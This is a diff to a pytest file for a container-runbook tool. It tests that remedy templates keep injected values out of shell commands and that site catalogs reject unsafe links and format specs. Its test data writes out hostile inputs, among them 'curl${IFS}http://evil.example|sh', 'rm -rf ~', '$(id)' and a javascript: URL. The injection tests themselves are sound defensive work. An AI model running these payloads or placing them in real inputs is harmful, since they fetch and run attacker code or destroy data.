@@ -63,7 +63,7 @@ def test_runbook_commands_kept_exact():
 
 
 def test_fill_keeps_unknown_placeholders_visible():
-    assert fill("restart {container_id} on {host}", {"container_id": "abc"}) == "restart abc on {host}"
+    assert fill("restart {container_id} on {host}", {"container_id": "3f2a9c1b7d4e"}) == "restart 3f2a9c1b7d4e on {host}"
     assert placeholders("a {x} b {y}") == {"x", "y"}
 
 
@@ -98,3 +98,94 @@ def test_bad_section_value(tmp_path: Path):
     expected = "condition 'docker.disconnected.container-exists': field 'section'"
     with pytest.raises(CatalogError, match=re.escape(expected)):
         load_catalog(path)
+
+
+# ------------------------------------------------------------------ remedies safe to paste
+
+INJECTED_VERSION = "1.0;curl${IFS}http://evil.example|sh"
+
+
+def test_upgrade_patterns_capture_only_a_version_shape():
+    line = (
+        f"Creating new container with name: blink-runner-{INJECTED_VERSION} and configuration from container "
+        "with id: 3f2a9c1b7d4e"
+    )
+    assert not CATALOG.upgrade_patterns["creating"].search(line)
+    good = line.replace(INJECTED_VERSION, "1.0.995-rc1+build.7")
+    m = CATALOG.upgrade_patterns["creating"].search(good)
+    assert m and m["version"] == "1.0.995-rc1+build.7" and m["name"] == "blink-runner-1.0.995-rc1+build.7"
+    handoff = f"Operator has been deployed with version: {INJECTED_VERSION}, Current Runner will shutdown once new runner is up and ready."
+    assert not CATALOG.upgrade_patterns["operator_handoff"].search(handoff)
+
+
+@pytest.mark.parametrize(
+    ("name", "bad"),
+    [
+        ("container_id", "3f2a9c1b7d4e;rm -rf ~"),
+        ("new_container_id", "blink-runner-1.0;curl${IFS}x|sh"),
+        ("version", INJECTED_VERSION),
+        ("namespace", "blink$(id)"),
+        ("pod", "runner`reboot`"),
+        ("deployment", "blink-runner && curl x"),
+        ("container_name", "blink\nrunner"),
+    ],
+)
+def test_a_value_that_does_not_fit_its_shape_is_shown_apart_never_in_a_command(name: str, bad: str):
+    template = f"Try: `docker logs {{{name}}}` then `kubectl get pods -n {{{name}}}`"
+    out = fill(template, {name: bad})
+    command_lines = out.split("\nNot filled in above")[0]
+    assert bad not in command_lines and f"{{{name}}}" in command_lines
+    assert "Not filled in above (shown apart, never inside a command)" in out
+    assert repr(bad) in out
+
+
+def test_values_of_the_right_shape_are_filled():
+    out = fill("`docker logs {container_id}` for {version} in {namespace}",
+               {"container_id": "3f2a9c1b7d4e", "version": "1.0.995", "namespace": "blink"})
+    assert out == "`docker logs 3f2a9c1b7d4e` for 1.0.995 in blink"
+
+
+def test_other_values_inside_a_command_are_shell_quoted_prose_is_not():
+    out = fill("`kubectl create rolebinding x {subject_flag}` for {subject}",
+               {"subject_flag": "--user=oidc:alice smith", "subject": "oidc:alice smith"})
+    assert out == "`kubectl create rolebinding x '--user=oidc:alice smith'` for oidc:alice smith"
+
+
+def test_format_specs_in_a_template_are_never_applied():
+    assert fill("{x:>500000000}", {"x": "a"}) == "{x:>500000000}"
+    assert fill("{x!r} {x.__class__}", {"x": "a"}) == "{x!r} {x.__class__}"
+
+
+# ------------------------------------------------------------------ a site catalog is validated
+
+
+def _with(tmp_path: Path, old: str, new: str) -> Path:
+    text = Path(CATALOG.path).read_text()
+    assert old in text, old
+    path = tmp_path / "site.yaml"
+    path.write_text(text.replace(old, new, 1))
+    return path
+
+
+@pytest.mark.reliability(
+    fault="a site catalog (`--catalog`) with a `javascript:` link, an upgrade pattern without its named groups, or a `{placeholder:>500000000}` format",
+    sees="exit 4 naming the entry and field (\"… must be an http:// or https:// URL\", \"… must have the named groups …\", \"only plain {name} placeholders\")",
+)
+@pytest.mark.parametrize(
+    ("old", "new", "message"),
+    [
+        ("troubleshooting: https://docs", "troubleshooting: javascript:alert(1)//https://docs",
+         "links.troubleshooting: field 'url' must be an http:// or https:// URL"),
+        ("troubleshooting: https://docs", "troubleshooting: data:text/html,x//https://docs", "links.troubleshooting"),
+        ("link: troubleshooting", "link: https://", "field 'link' must be an https:// URL"),
+        ("(?P<container_id>[0-9a-f]{12,64})'", "[0-9a-f]{12,64}'", "field 'creating' must have the named groups name, version, container_id (missing: container_id)"),
+        ("version: (?P<version>[0-9][0-9A-Za-z.+-]*), Current", "version: [0-9.]+, Current", "field 'operator_handoff' must have the named groups version"),
+        ("`docker logs {container_id}`", "`docker logs {container_id:>500000000}`", "placeholder '{container_id:>500000000}'"),
+        ("`docker logs {container_id}`", "`docker logs {container_id!r}`", "placeholder '{container_id!r}'"),
+        ("`docker logs {container_id}`", "`docker logs {container_id.__class__}`", "only plain {name} placeholders"),
+        ("`docker logs {container_id}`", "`docker logs {0}`", "only plain {name} placeholders"),
+    ],
+)
+def test_site_catalog_is_validated(tmp_path: Path, old: str, new: str, message: str):
+    with pytest.raises(CatalogError, match=re.escape(message)):
+        load_catalog(_with(tmp_path, old, new))
